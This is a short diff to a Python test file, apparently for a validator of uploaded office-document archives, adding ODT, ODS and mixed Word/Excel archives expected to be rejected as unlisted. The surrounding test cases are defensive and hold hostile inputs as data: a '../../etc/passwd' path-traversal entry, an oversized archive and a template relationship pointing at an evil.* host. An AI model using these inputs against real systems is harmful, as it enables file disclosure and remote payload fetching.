@@ -154,6 +154,9 @@ TEMPLATE = '<Relationship Type="http://x/attachedTemplate" Target="http://evil.e
     [
         (archive(**{"readme.txt": b"x"}), "not_listed"),
         (archive(**{"../../etc/passwd": b"x"}), "not_listed"),
+        (archive(**{"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}), "not_listed"),
+        (archive(**{"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), "not_listed"),
+        (archive(**{"[Content_Types].xml": b"", "word/document.xml": b"", "xl/workbook.xml": b""}), "not_listed"),
         (archive(**{f"{n}": b"" for n in range(3000)}), "too_heavy"),
         (
             archive(**{"[Content_Types].xml": b"", "word/document.xml": b"", "word/media/x": bytes(150 << 20)}),
